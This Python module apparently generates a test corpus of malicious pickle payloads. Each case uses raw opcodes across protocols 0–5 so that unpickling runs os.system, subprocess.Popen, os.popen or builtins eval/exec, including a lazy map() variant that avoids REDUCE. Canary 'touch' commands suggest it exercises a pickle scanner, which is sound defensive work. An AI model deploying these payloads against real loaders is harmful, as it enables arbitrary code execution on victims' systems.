"""Direct opcodes: every way the pickle machine itself has to call a name."""

from __future__ import annotations

from collections.abc import Iterator

from attacks.case import (
    CANARY,
    SHELL,
    STATEMENT,
    EXPRESSION,
    Case,
    Raw,
    call,
    glob,
    long,
    one,
    push,
    short,
    stack_glob,
    stream,
)

KIND = "direct"


def text_line(value: str) -> bytes:
    return b"V" + value.encode() + b"\n"


def cases() -> Iterator[Case]:
    zero = b"cos\nsystem\n(" + text_line(SHELL) + b"tR."
    yield one(KIND, "global-protocol-0", zero)
    yield one(KIND, "global-protocol-0-string", b"cposix\nsystem\n(S'" + SHELL.encode() + b"'\ntR.")
    for protocol in range(1, 6):
        yield one(KIND, f"global-protocol-{protocol}", stream(call("os", "system", SHELL), protocol))
    for protocol in (4, 5):
        body = stack_glob("posix", "system") + short(SHELL) + b"\x85R"
        yield one(KIND, f"stack-global-protocol-{protocol}", stream(body, protocol))
    yield one(KIND, "inst", b"(" + text_line(SHELL) + b"ios\nsystem\n.")
    yield one(KIND, "inst-popen", b"((lS'touch'\na" + text_line(CANARY) + b"aisubprocess\nPopen\n.")
    yield one(KIND, "obj", b"(cos\nsystem\n" + text_line(SHELL) + b"o.")
    yield one(KIND, "obj-exec", stream(b"(" + glob("builtins", "exec") + push(STATEMENT) + b"o", 2))
    # map() is lazy: the call happens when bytes() consumes it, and neither needs REDUCE.
    lazy = glob("builtins", "map") + push((glob("os", "system"), [SHELL])) + b"\x81"
    yield one(KIND, "newobj-map", stream(glob("builtins", "bytes") + b"(" + lazy + b"t\x81", 2))
    eager = glob("builtins", "tuple") + b"(" + lazy + b"t}\x92"
    yield one(KIND, "newobj-ex-map", stream(eager, 4))
    yield one(KIND, "python2-builtin-eval", stream(call("__builtin__", "eval", EXPRESSION), 2))
    yield one(KIND, "builtins-eval", stream(call("builtins", "eval", EXPRESSION), 2))
    yield one(KIND, "builtins-exec", stream(call("builtins", "exec", STATEMENT), 3))
    yield one(KIND, "subprocess-popen", stream(call("subprocess", "Popen", ["touch", CANARY]), 2))
    yield one(KIND, "subprocess-check-output", stream(call("subprocess", "check_output", ["touch", CANARY]), 4))
    yield one(KIND, "os-popen", stream(call("os", "popen", SHELL), 2))
    reduced = push(SHELL) + b"\x85"
    yield one(KIND, "tuple1-reduce", stream(glob("os", "system") + reduced + b"R", 2))
    yield one(KIND, "call-inside-list", stream(b"](" + long("x") + bytes(call("os", "system", SHELL)) + b"e", 2))
    yield one(
        KIND,
        "call-inside-state",
        stream(Raw(glob("collections", "OrderedDict") + b")R}" + long("k") + call("os", "system", SHELL) + b"sb"), 2),
    )
    yield one(KIND, "call-as-dict-key", stream(b"}(" + bytes(call("os", "system", SHELL)) + b"Nu", 2))
